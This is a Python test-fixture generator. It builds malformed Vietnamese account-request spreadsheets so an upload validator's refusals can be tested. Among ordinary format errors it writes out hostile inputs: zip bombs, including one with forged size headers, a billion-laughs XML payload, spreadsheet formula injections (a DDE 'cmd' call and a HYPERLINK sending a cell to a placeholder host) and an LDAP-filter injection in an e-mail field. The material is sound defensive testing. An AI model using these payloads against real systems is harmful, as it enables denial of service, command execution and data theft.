"""Generated malformed Phụ lục 01 files (issue 17, item 3), deterministic from their number.

File ``n`` is of kind ``KINDS[n % len(KINDS)]`` and variant ``n // len(KINDS)``: each kind says how its file
is broken and which words the refusal must contain (and, for a problem of one row, that row and column), so a
refusal for the wrong reason fails the test. The rows are real people of the caller's province, so only what
the kind breaks is wrong. ``nfd_file`` makes the opposite case: a sound file whose text is all in NFD.
"""

from __future__ import annotations

import io
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from openpyxl import Workbook

HEADER = ["STT", "Họ và tên", "Đơn vị", "Chức vụ", "Thư điện tử công vụ", "Phần mềm nghiệp vụ", "Vai trò",
          "Đề nghị (Cấp / Khóa / Mở khóa)", "Lý do", "Số quyết định", "Ngày quyết định", "Ngày hiệu lực",
          "Ngày kết thúc"]  # fmt: skip
EMAIL_COLUMN = 4
NOT_XLSX = "not a spreadsheet"
NOT_UTF8 = "not a UTF-8 CSV"


@dataclass(frozen=True)
class Person:
    mail: str
    name: str
    unit: str


@dataclass(frozen=True)
class Malformed:
    """One generated file and what its refusal must say."""

    number: int
    kind: str
    filename: str
    data: bytes
    #: words the refusal (detail, or one of its row problems) must contain
    words: str
    #: (row, column) the refusal must name, when the problem is in one row
    where: tuple[int, str] | None = None


def row(person: Person, *, reason: str = "nghỉ hưu", effective: str = "01/12/2030", end: str = "",
        request: str = "Khóa", number: str = "12/QĐ-BHXH", decided: str = "20/10/2030") -> list[str]:  # fmt: skip
    return ["1", person.name, person.unit, "Chuyên viên", person.mail, "", "", request, reason, number, decided,
            effective, end]  # fmt: skip


def csv_bytes(rows: list[list[str]], *, header: list[str] = HEADER, sep: str = ";", bom: bool = True,
              encoding: str = "utf-8") -> bytes:  # fmt: skip
    text = "\r\n".join(sep.join(r) for r in [header, *rows]) + "\r\n"
    text = ("\ufeff" if bom else "") + text
    if encoding == "cp1258":  # Windows' Vietnamese code page holds tone marks as combining characters
        return unicodedata.normalize("NFD", text).encode(encoding, errors="replace")
    return text.encode(encoding)


def xlsx_bytes(rows: list[list[object]], *, header: list[str] = HEADER) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(header)
    for r in rows:
        sheet.append(r)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The workbook ``data`` with members replaced (a hand-made sheet, a bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
    return out.getvalue()


def _sheet_name(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return next(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))


def _lying_bomb(size: int) -> bytes:
    """A zip whose one member inflates to ``size`` bytes while its headers declare 100 (the central directory a
    size check would trust)."""
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = payload.compress(b"\0" * size) + payload.flush()
    name = b"xl/worksheets/sheet1.xml"
    crc, declared = 0, 100
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), declared, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(body), declared, len(name),
                          0, 0, 0, 0, 0, 0) + name  # fmt: skip
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(body), 0)
    return local + body + central + end


Maker = Callable[[int, list[Person]], tuple[str, bytes, str, tuple[int, str] | None]]


def _truncated(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    whole = xlsx_bytes([row(p) for p in people[:3]])
    cut = [len(whole) // 2, 30, len(whole) - 22, len(whole) - 200, 2000][v % 5] + v // 5
    return "truncated.xlsx", whole[:cut], NOT_XLSX, None


def _bomb(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    whole = xlsx_bytes([row(p) for p in people[:1]])
    if v % 2:
        return "bomb-lying-sizes.xlsx", _lying_bomb(300 * 2**20), NOT_XLSX, None
    sheet = _sheet_name(whole)
    return "bomb.xlsx", _rezip(whole, {sheet: b"<x>" + b" " * (250 * 2**20) + b"</x>"}), "inflates beyond", None


def _hundred_thousand(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    rows = [row(people[i % len(people)], number=f"{i}/QĐ") for i in range(100_000)]
    if v % 3 == 2:
        return "100000-rows.xlsx", xlsx_bytes(rows), "more than 20000 rows", None
    return "100000-rows.csv", csv_bytes(rows, sep=";,"[v % 2]), "more than 20000 rows", None


def _formula(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    formulas = ['=HYPERLINK("http://x/?"&A1,"bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "=1+1",
                '=WEBSERVICE("http://x")']  # fmt: skip
    column = [1, 8, 9, 11, 4][v % 5]
    bad = row(people[1])
    bad[column] = formulas[v % 5]
    rows = [row(people[0]), bad]
    if v % 2:
        return "formula.xlsx", xlsx_bytes(rows), "formulas are not allowed", (3, _column(column))
    return "formula.csv", csv_bytes(rows, sep=","), "formulas are not allowed", (3, _column(column))


def _column(index: int) -> str:
    return {1: "Họ và tên", 4: "Thư điện tử công vụ", 8: "Lý do", 9: "Số quyết định", 11: "Ngày hiệu lực"}[index]


def _encoding(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    rows = [row(p) for p in people[:2]]
    encoding = ["cp1258", "utf-16", "utf-16-be", "latin-1", "cp1252"][v % 5]
    if encoding in ("latin-1", "cp1252"):  # Vietnamese does not fit: what does not is replaced by "?"
        text = "\r\n".join(";".join(r) for r in [HEADER, *rows])
        return f"{encoding}.csv", text.encode(encoding, errors="replace"), NOT_UTF8, None
    return f"{encoding}.csv", csv_bytes(rows, bom=encoding != "cp1258", encoding=encoding, sep=";"), NOT_UTF8, None


def _bom(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    """A UTF-8 BOM (read correctly) and, after it, one wrong row: the refusal names that row, not the header."""
    bad = row(people[1], effective="31/02/2031")
    data = csv_bytes([row(people[0]), bad], bom=True, sep=";,\t"[v % 3])
    if v % 2:
        data = b"\xef\xbb\xbf" + data  # a doubled BOM: the header's first cell is not "STT" but nothing is missing
    return "bom.csv", data, "", (3, "Ngày hiệu lực")


def _semicolon(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    """Semicolon-separated (Excel's CSV in a Vietnamese locale) with one unknown reason, or rows in commas."""
    if v % 2:
        rows = [row(people[0])]
        text = ";".join(HEADER) + "\r\n" + ",".join(rows[0]) + "\r\n"
        return "mixed-separators.csv", text.encode(), "", (2, "Thư điện tử công vụ")
    return "semicolon.csv", csv_bytes([row(people[0]), row(people[1], reason="đi chơi")], sep=";"), "unknown reason", (
        3, "Lý do")  # fmt: skip


def _structure(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    """Not a Phụ lục 01: empty, header only, a missing or doubled column, another format under the name."""
    good = [row(p) for p in people[:2]]
    cases: list[tuple[str, bytes, str, tuple[int, str] | None]] = [
        ("empty.csv", b"", "empty file", None),
        ("header-only.csv", csv_bytes([]), "no data rows", None),
        ("missing-column.csv", csv_bytes([r[:11] for r in good], header=HEADER[:11]), "missing column",
         (1, "Ngày hiệu lực")),
        ("duplicate-column.xlsx", xlsx_bytes([[*r, r[4]] for r in good], header=[*HEADER, HEADER[4]]),
         "duplicate column", (1, HEADER[4])),
        ("pdf.xlsx", b"%PDF-1.7\n" + bytes(range(256)) * 8, NOT_XLSX, None),
        ("legacy.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "only .xlsx or .csv", None),
        ("binary.csv", b"STT;Ho\0ten\n1;\0\0\0", "binary content", None),
        ("no-columns.csv", "một dòng không có cột nào\n".encode() * 3, "no columns", None),
        ("not-a-sheet.xlsx", _rezip(xlsx_bytes(good), {"xl/workbook.xml": b"<not-a-workbook"}), NOT_XLSX, None),
        ("bad-sheet-xml.xlsx", _rezip(xlsx_bytes(good), {_sheet_name(xlsx_bytes(good)): b"<worksheet><sheetData><row"}),
         NOT_XLSX, None),
        ("billion-laughs.xlsx", _rezip(xlsx_bytes(good), {_sheet_name(xlsx_bytes(good)): _laughs()}), NOT_XLSX, None),
        ("too-large.csv", csv_bytes(good) + b" " * (21 * 2**20), "file larger than", None),
    ]  # fmt: skip
    return cases[v % len(cases)]


def _laughs() -> bytes:
    entities = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE w [{entities}]>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
            '<c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>').encode()  # fmt: skip


def _rows(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    """Sound format, one wrong value in row 3 (an outsider, an impossible date, a hostile address …)."""
    broken: list[tuple[dict[str, str], str, str]] = [
        ({"mail": "ai.do@gmail.com"}, "Thư điện tử công vụ", ""),
        ({"mail": "*)(uid=*@hanoi.vss.gov.vn"}, "Thư điện tử công vụ", ""),
        ({"effective": "2030-13-40"}, "Ngày hiệu lực", ""),
        ({"reason": "nghỉ thai sản", "end": ""}, "Ngày kết thúc", ""),
        ({"request": "Xóa sổ"}, "Đề nghị", ""),
        ({"effective": "01/12/2030", "end": "01/01/2030", "reason": "ốm đau dài ngày"}, "Ngày kết thúc", ""),
        ({"mail": "không-phải-địa-chỉ"}, "Thư điện tử công vụ", "not an e-mail address"),
        ({"decided": "99/99/9999"}, "Ngày quyết định", ""),
    ]  # fmt: skip
    change, column, words = broken[v % len(broken)]
    person = people[1]
    if "mail" in change:
        person = Person(change.pop("mail"), person.name, person.unit)
    rows = [row(people[0]), row(person, **change)]
    if v % 2:
        return "row.xlsx", xlsx_bytes(rows), words, (3, column)
    return "row.csv", csv_bytes(rows), words, (3, column)


def _duplicate(v: int, people: list[Person]) -> tuple[str, bytes, str, tuple[int, str] | None]:
    rows = [row(people[0]), row(people[1]), row(people[0])]
    return ("duplicate.xlsx" if v % 2 else "duplicate.csv", xlsx_bytes(rows) if v % 2 else csv_bytes(rows),
            "duplicate of row 2", (4, "Thư điện tử công vụ"))  # fmt: skip


KINDS: dict[str, Maker] = {
    "truncated zip": _truncated, "zip bomb": _bomb, "100,000 rows": _hundred_thousand, "formulas": _formula,
    "wrong encodings": _encoding, "BOM": _bom, "semicolon CSV": _semicolon, "structure": _structure,
    "wrong values": _rows, "duplicate rows": _duplicate,
}  # fmt: skip


def malformed(number: int, people: list[Person]) -> Malformed:
    kinds = list(KINDS)
    kind = kinds[number % len(kinds)]
    filename, data, words, where = KINDS[kind](number // len(kinds), people)
    return Malformed(number, kind, f"{number:03d}-{filename}", data, words, where)


def nfd_file(people: list[Person], *, xlsx: bool, number: str) -> tuple[str, bytes]:
    """A sound "Khóa" file whose every text (headers, names, request, reason, decision number) is in NFD."""
    nfd = [[unicodedata.normalize("NFD", cell) for cell in row(p, reason="nghỉ thai sản", end="01/06/2031",
                                                                 number=number)] for p in people]  # fmt: skip
    header = [unicodedata.normalize("NFD", h) for h in HEADER]
    assert any(cell != unicodedata.normalize("NFC", cell) for cell in nfd[0])
    if xlsx:
        return "nfd.xlsx", xlsx_bytes(nfd, header=header)  # type: ignore[arg-type]
    return "nfd.csv", csv_bytes(nfd, header=header)
